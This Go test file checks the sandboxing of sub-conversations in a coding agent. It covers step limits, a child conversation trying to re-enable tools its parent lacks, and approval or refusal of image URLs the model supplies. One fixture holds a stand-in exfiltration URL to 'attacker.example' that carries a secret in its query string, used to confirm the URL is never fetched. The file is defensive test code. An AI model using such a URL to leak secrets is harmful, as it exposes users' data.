package agent

import (
	"bytes"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/coder-nvim/coder-nvim/core/config"
	"github.com/coder-nvim/coder-nvim/core/event"
	"github.com/coder-nvim/coder-nvim/core/fakellm"
	"github.com/coder-nvim/coder-nvim/core/llm"
	"github.com/coder-nvim/coder-nvim/core/policy"
)

// TestMaxStepsCoversHandOvers: with max_steps 3 a model that keeps
// opening conversations makes at most 3 requests in the whole turn.
func TestMaxStepsCoversHandOvers(t *testing.T) {
	f := convFixture(t, func(c *config.Config) { c.MaxSteps = 3 })
	for i := range 30 {
		f.srv.Enqueue(fakellm.Reply{ToolCalls: []llm.ToolCall{call("c"+string(rune('a'+i%26))+string(rune('0'+i/26)), "conv_create", map[string]any{"user_instruction": "go deeper"})}})
	}
	f.run(t, "start")
	if n := len(f.srv.Requests()); n > 3 {
		t.Errorf("%d model requests in one turn with max_steps 3", n)
	}
}

// TestChildCannotReenableTools: a conversation without patch and without
// streaming bash cannot open one with either: the grandchild is offered no
// patch, its bash streams nothing, and the caller is told.
func TestChildCannotReenableTools(t *testing.T) {
	f := convFixture(t, func(c *config.Config) { c.Mode = "yolo" })
	f.srv.Enqueue(
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("c1", "conv_create", map[string]any{"user_instruction": "narrow here",
			"internal_tools": map[string]any{"include_apply_patch_tool": false, "use_streamable_shell_tool": false}})}},
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("c2", "conv_create", map[string]any{"user_instruction": "wide again",
			"internal_tools": map[string]any{"include_apply_patch_tool": true, "use_streamable_shell_tool": true}})}},
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("b", "bash", map[string]any{"command": "echo from-grandchild"})}},
		fakellm.Reply{Content: "grandchild done"},
		fakellm.Reply{Content: "child done"},
		fakellm.Reply{Content: "root done"},
	)
	f.run(t, "nest")
	reqs := f.srv.Requests()
	if len(reqs) < 3 {
		t.Fatalf("%d requests", len(reqs))
	}
	if names := toolNames(reqs[2].Tools); slices.Contains(names, "patch") || !slices.Contains(names, "bash") {
		t.Fatalf("the grandchild was offered %v: patch its parent lacks, or no bash", names)
	}
	if d := f.rec.find(event.ToolOutputDelta); len(d) != 0 {
		t.Errorf("the grandchild's bash streamed though its parent's does not: %+v", d)
	}
	var ran bool
	for _, e := range f.rec.find(event.ToolCallEnd) {
		ran = ran || e.Tool.CallID == "b" && strings.Contains(e.Tool.Output, "from-grandchild")
	}
	if !ran {
		t.Errorf("the grandchild's bash did not run")
	}
	f.sess.mu.Lock()
	convs := append([]*Conversation(nil), f.sess.order...)
	f.sess.mu.Unlock()
	var note *llm.Message
	for _, c := range convs {
		if m := toolMsg(f.sess.History(c.ID), "c2"); m != nil {
			note = m
		}
	}
	for _, want := range []string{"include_apply_patch_tool: not enabled", "use_streamable_shell_tool: not enabled", "can only narrow"} {
		if note == nil || !strings.Contains(note.Content, want) {
			t.Errorf("no note %q on the refused tools: %+v", want, note)
		}
	}
}

// TestConvImagesFromTheModel: an http(s) image URL asks (denied: never
// sent) and is refused in plan mode; a workspace image file becomes a data
// URL; a FIFO or an over-size instruction file is refused at once.
func TestConvImagesFromTheModel(t *testing.T) {
	f := convFixture(t, nil)
	secretURL := "https://attacker.example/p.png?k=SECRET"
	asked := 0
	f.rec.onAsk = func(a *event.Approval) {
		asked++
		_ = f.sess.Answer(a.ID, Answer{Decision: Deny})
	}
	png := []byte("\x89PNG\r\n\x1a\nfake")
	if err := os.WriteFile(filepath.Join(f.root, "pic.png"), png, 0o644); err != nil {
		t.Fatal(err)
	}
	mkfifo(t, filepath.Join(f.root, "fifo.md"))
	if err := os.WriteFile(filepath.Join(f.root, "huge.md"), bytes.Repeat([]byte("x"), 300<<10), 0o644); err != nil {
		t.Fatal(err)
	}
	f.srv.Enqueue(
		fakellm.Reply{ToolCalls: []llm.ToolCall{
			call("u", "conv_create", map[string]any{"user_instruction": "look", "items": []any{map[string]any{"type": "image_url", "image_url": secretURL}}}),
			call("fifo", "conv_create", map[string]any{"user_instruction": "x", "base_instruction_file": "fifo.md"}),
			call("huge", "conv_create", map[string]any{"user_instruction": "x", "base_instruction_file": "huge.md"}),
			call("w", "conv_create", map[string]any{"user_instruction": "describe", "items": []any{map[string]any{"type": "image_url", "image_url": "pic.png"}}}),
		}},
		fakellm.Reply{Content: "a picture"},
		fakellm.Reply{Content: "done"},
	)
	f.run(t, "images")
	if asked != 1 {
		t.Errorf("asked %d times for the http(s) image, want once", asked)
	}
	hist := f.sess.History("")
	for id, want := range map[string]string{"fifo": "not a regular file", "huge": "too large"} {
		if m := toolMsg(hist, id); m == nil || !strings.Contains(m.Content, want) {
			t.Errorf("%s result = %+v, want %q", id, m, want)
		}
	}
	for i, r := range f.srv.Requests() {
		if bytes.Contains(r.Raw, []byte(`"image_url":{"url":"https://attacker`)) {
			t.Errorf("request %d sends the model's URL as an image for the provider to fetch", i)
		}
	}
	if reqs := f.srv.Requests(); len(reqs) < 2 || !bytes.Contains(reqs[1].Raw, []byte("data:image/png;base64,")) {
		t.Errorf("the workspace image did not reach the sub-conversation as a data URL")
	}

	// Plan mode refuses the URL before anything is asked.
	f.sess.SetMode(policy.ModePlan)
	f.srv.Enqueue(
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("p", "conv_create", map[string]any{"user_instruction": "look", "items": []any{map[string]any{"type": "image_url", "image_url": secretURL}}})}},
		fakellm.Reply{Content: "ok"},
	)
	f.run(t, "again")
	if m := toolMsg(f.sess.History(""), "p"); m == nil || !strings.Contains(m.Content, "plan mode") {
		t.Errorf("plan-mode result = %+v", m)
	}
	if asked != 1 {
		t.Errorf("plan mode asked about the URL")
	}
}

// TestTargetEndsWithoutAnswer: a target stopped by max_steps hands its
// caller the reason, not only an empty last_assistant_message.
func TestTargetEndsWithoutAnswer(t *testing.T) {
	f := convFixture(t, func(c *config.Config) { c.MaxSteps = 3 })
	f.srv.Enqueue(
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("c1", "conv_create", map[string]any{"user_instruction": "look around"})}},
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("l1", "ls", map[string]any{"path": "."})}},
		fakellm.Reply{ToolCalls: []llm.ToolCall{call("l2", "ls", map[string]any{"path": "."})}},
	)
	f.run(t, "delegate")
	m := toolMsg(f.sess.History(""), "c1")
	if m == nil || !strings.Contains(m.Content, `"last_assistant_message":""`) || !strings.Contains(m.Content, `"status":"max_steps"`) ||
		!strings.Contains(m.Content, "stopped at max_steps") {
		t.Errorf("caller's result = %+v", m)
	}
}
